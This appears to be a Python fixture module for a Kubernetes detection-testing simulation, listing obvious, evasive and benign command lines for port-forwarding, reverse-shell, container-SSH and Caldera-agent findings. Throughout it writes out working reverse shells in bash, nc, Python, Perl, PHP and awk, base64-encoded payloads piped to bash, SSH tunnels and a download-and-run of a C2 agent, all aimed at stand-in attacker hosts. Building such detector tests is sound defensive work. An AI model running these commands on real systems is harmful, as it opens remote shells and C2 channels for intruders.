"""Commands that open ways in and out: tunnels, shells that call back, SSH servers, agents of red teams."""

from __future__ import annotations

from simulation.attacks.shells import Started
from simulation.attacks.tables import Place, encoded, line, run, table

FORWARDING = "K8S.NODE_SuspectPortForwarding"
REVERSE = "K8S.NODE_ReverseShell"
SSH = "K8S.NODE_ContainerSSH"
CALDERA = "K8S.NODE_MitreCalderaTools"
WEB_SHELL = "K8S.NODE_Webshell"
TOOL = "K8S.NODE_KnownLinuxAttackTool"
RUNNER = ("ci", "gitlab-runner")
SITES = ("storefront", "api-node", "api-python")
"""Web servers that are known as such by their command lines."""
TUNNEL = "ssh -fNTR 0.0.0.0:9000:10.0.0.1:443 -oStrictHostKeyChecking=no t@relay.pale-harbor.example"

table(
    FORWARDING,
    straight=[
        run("ssh -N -R 9000:localhost:22 tunnel@INTRUDER", at=Place.EXEC, connects=("INTRUDER", 22)),
        run("socat TCP-LISTEN:8443,fork TCP:INTRUDER:443", at=Place.EXEC),
        run("iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination INTRUDER:80", at=Place.HOST),
        run("cloudflared tunnel --url http://localhost:8080", at=Place.EXEC),
        run("kubectl port-forward --address 0.0.0.0 svc/db 5432:5432", at=Place.HOST),
        run("ngrok tcp 22", at=Place.EXEC, also=(TOOL,)),
    ],
    careful=[
        run(
            "ssh -oExitOnForwardFailure=yes -o ServerAliveInterval=30 -NfR9000:127.0.0.1:22 relay.pale-harbor.example",
            at=Place.EXEC,
        ),
        run(("ssh", "-N", "-o", "RemoteForward=2222 localhost:22", "INTRUDER"), at=Place.HOST),
        line(
            f"echo {encoded(TUNNEL)} | base64 -d | bash",
            runs=["base64 -d", Started("bash", [TUNNEL])],
            at=Place.EXEC,
        ),
        run(
            "/srv/relay TCP4-LISTEN:5000,reuseaddr,fork OPENSSL:relay.pale-harbor.example:443,verify=0",
            at=Place.EXEC,
        ),
        run("iptables -tnat -IOUTPUT -ptcp --dport=5432 -jDNAT --to-destination=INTRUDER:443", at=Place.HOST),
        run("ssh -N -W INTRUDER:443 jump@relay.pale-harbor.example", at=Place.EXEC),
    ],
    quiet=[
        run("ssh -N -L 5432:10.2.0.9:5432 deploy@10.1.0.4", at=Place.EXEC),
        run("socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80", at=Place.EXEC),
        run("ssh deploy@bastion.example uptime", at=Place.HOST),
        run("kubectl port-forward -n monitoring svc/grafana 3000:80", at=Place.HOST),
        run("iptables -t nat -A KUBE-SEP-7XK2 -p tcp -j DNAT --to-destination 10.244.1.8:8080", at=Place.DAEMON),
    ],
)

BASH_BACK = "bash -i >& /dev/tcp/relay.pale-harbor.example/443 0>&1"
PYTHON_BACK = (
    "import socket,os,subprocess;s=socket.socket();s.connect(('INTRUDER',4444));"
    "[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
)
PERL_BACK = (
    "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(443,inet_aton('INTRUDER')));"
    "open(STDIN,'>&S');open(STDOUT,'>&S');exec('sh -i');"
)
PHP_BACK = "$s=fsockopen('INTRUDER',443);proc_open('sh',[$s,$s,$s],$p);"
AWK_BACK = 'BEGIN{s="/inet/tcp/0/INTRUDER/443";while((s|&getline c)>0)while((c|getline r)>0)print r|&s}'

table(
    REVERSE,
    straight=[
        line(
            "bash -i >& /dev/tcp/INTRUDER/4444 0>&1",
            runs=["bash -i"],
            interpreter="bash",
            images=SITES,
            also=(WEB_SHELL,),
            connects=("INTRUDER", 4444),
        ),
        run("nc -e /bin/sh INTRUDER 4444", at=Place.EXEC, connects=("INTRUDER", 4444)),
        line(
            "mkfifo /srv/f; cat /srv/f | sh -i 2>&1 | nc INTRUDER 4444 > /srv/f",
            runs=["mkfifo /srv/f", "cat /srv/f", "sh -i", "nc INTRUDER 4444"],
            at=Place.EXEC,
        ),
        run("socat TCP:INTRUDER:4444 EXEC:/bin/sh", at=Place.EXEC),
        run(("python3", "-c", PYTHON_BACK), at=Place.EXEC, images=("api-python",), connects=("INTRUDER", 4444)),
    ],
    careful=[
        line(
            f"echo {encoded(BASH_BACK)} | base64 -d | bash",
            runs=["base64 -d", Started("bash", ["bash -i"])],
            interpreter="bash",
            images=SITES,
            also=(WEB_SHELL,),
        ),
        run("busybox nc INTRUDER 443 -e sh", at=Place.EXEC),
        run(("perl", "-e", PERL_BACK), at=Place.EXEC, connects=("INTRUDER", 443)),
        run(("php", "-r", PHP_BACK), at=Place.EXEC, images=("storefront",)),
        line(
            "0<&196;exec 196<>/dev/tcp/INTRUDER/443; sh <&196 >&196 2>&196",
            runs=["sh"],
            interpreter="bash",
            at=Place.HOST,
        ),
        line(
            "p=/srv/.s; mkfifo $p; /bin/sh <$p 2>&1 | openssl s_client -quiet -connect INTRUDER:443 >$p",
            runs=["mkfifo /srv/.s", "/bin/sh", "openssl s_client -quiet -connect INTRUDER:443"],
            at=Place.EXEC,
        ),
        run(("gawk", AWK_BACK), at=Place.EXEC),
        run("socat -d openssl:INTRUDER:443,verify=0 exec:'bash -li',pty,stderr,setsid", at=Place.EXEC),
    ],
    quiet=[
        run("nc -z -w 2 db 5432", at=Place.EXEC),
        run("nc -l -p 9000", at=Place.EXEC),
        run("bash -i", at=Place.EXEC),
        line(
            "timeout 1 bash -c '</dev/tcp/db/5432'",
            runs=[("timeout", "1", "bash", "-c", "</dev/tcp/db/5432"), ("bash", "-c", "</dev/tcp/db/5432")],
            at=Place.EXEC,
        ),
        run("openssl s_client -connect registry.example:443 -servername registry.example", at=Place.EXEC),
    ],
)

table(
    SSH,
    straight=[
        run("/usr/sbin/sshd -D", at=Place.EXEC, seconds=None),
        line("service ssh start", runs=[Started("service ssh start", ["/usr/sbin/sshd"])], at=Place.EXEC),
        run("dropbear -R -F -E -p 2222", at=Place.ENTRY, seconds=None),
        run("tinysshd /etc/tinyssh/sshkeydir", at=Place.EXEC),
    ],
    careful=[
        line(
            "exec -a nginx-helper /usr/sbin/sshd -D -p 2022 -o PermitRootLogin=yes",
            runs=[Started("nginx-helper -D -p 2022 -o PermitRootLogin=yes", binary="/usr/sbin/sshd")],
            interpreter="bash",
            at=Place.EXEC,
        ),
        line(
            "start-stop-daemon --start --exec /usr/sbin/dropbear -- -p 2222",
            runs=[
                Started(
                    "start-stop-daemon --start --exec /usr/sbin/dropbear -- -p 2222", ["/usr/sbin/dropbear -p 2222"]
                )
            ],
            at=Place.EXEC,
        ),
        run("/lib64/ld-linux-x86-64.so.2 /usr/sbin/sshd -D -p 2022", at=Place.EXEC),
        run("busybox nohup /srv/.bin/sshd -De -f /srv/.bin/c", at=Place.EXEC),
    ],
    quiet=[
        run("/usr/sbin/sshd -D", at=Place.DAEMON, seconds=None),
        run("ssh -T git@git.example", at=Place.ENTRY, workload=RUNNER),
        run("ssh-keygen -A", at=Place.EXEC),
        run("/usr/sbin/sshd -t", at=Place.EXEC),
        run("/usr/sbin/sshd -T", at=Place.ENTRY, workload=RUNNER),
    ],
)

FETCH = ("curl", "-s", "-X", "POST", "-H", "file:sandcat.go", "-H", "platform:linux")
AGENT = "-server http://INTRUDER:8888 -group red -v"
CLOUD = "/usr/lib/apt/kworkerd -server http://c2.pale-harbor.example -group cloud -listenP2P"

table(
    CALDERA,
    straight=[
        run(f"/opt/splunkd {AGENT}", at=Place.EXEC, connects=("INTRUDER", 8888)),
        run(f"/opt/sandcat.go-linux {AGENT}", at=Place.EXEC),
        line(
            'curl -s -X POST -H "file:sandcat.go" -H "platform:linux" http://INTRUDER:8888/file/download > splunkd; '
            f"chmod +x splunkd; ./splunkd {AGENT} &",
            runs=[(*FETCH, "http://INTRUDER:8888/file/download"), "chmod +x splunkd", f"./splunkd {AGENT}"],
            images=SITES,
            cwd="/srv",
            also=(
                WEB_SHELL,
                "K8S.NODE_DownloadAndRunCombo",
                "K8S.NODE_SuspectDownloadArtifacts",
                "K8S.NODE_LinuxBackdoorArtifact",
            ),
        ),
        run("/opt/manx -http http://INTRUDER:8888 -socket INTRUDER:7010 -contact tcp", at=Place.EXEC),
    ],
    careful=[
        run("/usr/lib/apt/kworkerd -server=http://INTRUDER -group=red -paw=ab12", at=Place.EXEC),
        line(
            f"echo {encoded(CLOUD)} | base64 -d | sh",
            runs=["base64 -d", Started("sh", [CLOUD])],
            at=Place.EXEC,
        ),
        run(
            "wget -q --header file:sandcat.go --header platform:linux -O agent http://c2.pale-harbor.example/file/download",
            at=Place.EXEC,
            cwd="/srv",
        ),
        run("python3 -u /srv/ragdoll.py -W http://INTRUDER:8888", at=Place.EXEC),
    ],
    quiet=[
        run("/opt/splunkforwarder/bin/splunkd -p 8089 start", at=Place.DAEMON),
        run("/opt/splunkforwarder/bin/splunkd rest --noauth GET /services/server/info", at=Place.DAEMON),
        run(
            "convert /data/photos/caldera.png -resize 800x600 /data/photos/caldera-small.png",
            at=Place.ENTRY,
            workload=RUNNER,
        ),
    ],
)
